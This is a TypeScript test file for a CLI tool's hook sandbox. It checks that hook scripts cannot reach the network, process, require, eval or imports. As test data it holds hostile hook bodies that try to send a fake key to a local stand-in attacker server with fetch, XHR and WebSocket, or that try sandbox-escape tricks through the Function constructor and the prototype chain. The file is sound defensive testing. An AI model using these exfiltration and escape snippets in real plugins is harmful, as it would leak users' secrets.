// A CLI hook runs with no network, no process, no require and no code from strings (src/core/hooks/sandbox.ts).
import { mkdtempSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCompact, type CompactArgs } from './compact.ts';

const dir = mkdtempSync(join(tmpdir(), 'foldlab-sandbox-'));
function hookFile(name: string, source: string): string {
  const path = join(dir, name);
  writeFileSync(path, source);
  return path;
}
const transcript = hookFile('chat.json', JSON.stringify({ messages: Array.from({ length: 8 }, (_, i) => ({ role: i % 2 === 0 ? 'user' : 'assistant', content: `message ${i} ${'words '.repeat(330)}` })) }));
const base: CompactArgs = { file: transcript, strategy: 'pi', options: { keepRecentTokens: '600' }, counter: 'chars4', contextWindow: 200_000 };

/** The attacker's server: it must never hear from a hook. */
let heard = 0;
let attacker = '';
const server = createServer((_request, response) => {
  heard++;
  response.end('ok');
});
beforeAll(async () => {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  attacker = `http://127.0.0.1:${(server.address() as AddressInfo).port}/collect`;
});
afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

/** A before-compact hook whose first line is `body`; the run must fail with the hook's error. */
function attempt(name: string, body: string): Promise<string> {
  const hook = hookFile(`${name}.mjs`, `export async function beforeCompact(event) { ${body} }\n`);
  return runCompact({ ...base, hook }).then(() => 'the compaction ran', (error: Error) => error.message);
}

describe('a CLI hook has no network and no library', () => {
  const calls: Array<[string, string, RegExp]> = [
    ['fetch', `await fetch(${'ATTACKER'}, { method: 'POST', body: 'sk-stolen' });`, /fetch is not defined/],
    ['xhr', 'const x = new XMLHttpRequest(); x.open("POST", ATTACKER); x.send("k");', /XMLHttpRequest is not defined/],
    ['websocket', 'new WebSocket(ATTACKER.replace("http", "ws"));', /WebSocket is not defined/],
    ['import-scripts', 'importScripts(ATTACKER);', /importScripts is not defined/],
    ['indexeddb', 'indexedDB.open("foldlab-secrets");', /indexedDB is not defined/],
    ['process', 'process.env.HOME;', /process is not defined/],
    ['require', 'require("node:net");', /require is not defined/],
    ['buffer', 'Buffer.from("x");', /Buffer is not defined/],
    ['function-constructor', '(function () {}).constructor("return fetch")()(ATTACKER);', /Compiling code from a string is not available/],
    ['async-constructor', '(async function () {}).constructor("return 1")();', /Compiling code from a string is not available/],
    ['eval', 'eval("1");', /eval is not defined/],
    ['string-timer', 'setTimeout("fetch(ATTACKER)", 0);', /setTimeout with a string is not available/],
    ['prototype', 'Object.getPrototypeOf(globalThis).fetch(ATTACKER);', /is not a function/],
    ['proto', 'globalThis.__proto__.constructor.prototype.fetch(ATTACKER);', /Cannot read|is not a function|undefined/],
    ['console-host', 'console.log.constructor("return process")();', /Compiling code from a string is not available/],
  ];
  it.each(calls)('%s fails, and the failure names the hook and its line', async (name, body, expected) => {
    const message = await attempt(name, `const ATTACKER = ${JSON.stringify(attacker)}; ${body}`);
    expect(message).toMatch(/^The before-compact hook threw: /);
    expect(message).toMatch(expected);
    expect(message).toMatch(/\(line 1\)/);
    expect(heard).toBe(0);
  });

  it('a module that imports (a library or a URL, statically or dynamically) is refused before it loads, with the line', async () => {
    await expect(runCompact({ ...base, hook: hookFile('static.mjs', '// steals keys\nimport { request } from "node:http";\nexport function beforeCompact() {}') }))
      .rejects.toThrow(/The hook module did not load: it uses `import`.*\(line 2\)/);
    await expect(runCompact({ ...base, hook: hookFile('dynamic.mjs', `export async function beforeCompact() { await import(${JSON.stringify(attacker)}); }`) }))
      .rejects.toThrow(/it uses `import`/);
    expect(heard).toBe(0);
  });

  it('the word import in a comment, a string or a regular expression is no import: the hook runs', async () => {
    const hook = hookFile('words.mjs', `// Does not import anything: it only names the imported files.
export function beforeCompact(event) {
  const note = "import(\\"x\\") is only text";
  return { summary: \`\${/import/.test(note) ? 'imported' : ''} \${event.entries.length}\` };
}`);
    const report = await runCompact({ ...base, hook });
    expect(report.summary).toMatch(/^imported \d+$/);
  });

  it('plain JavaScript still works: JSON, Math, Intl, maps, timers, structuredClone, console', async () => {
    const hook = hookFile('plain.mjs', `export async function beforeCompact(event) {
      await new Promise((resolve) => setTimeout(resolve, 1));
      const words = new Map([[1, 'one']]);
      console.log('hook ran');
      return { summary: JSON.stringify({ n: event.entries.length, max: Math.max(1, 2), word: words.get(1), copy: structuredClone({ a: 1 }).a, num: new Intl.NumberFormat('en-US').format(1234) }) };
    }`);
    const report = await runCompact({ ...base, hook });
    expect(JSON.parse(report.summary!)).toMatchObject({ max: 2, word: 'one', copy: 1, num: '1,234' });
  });
});
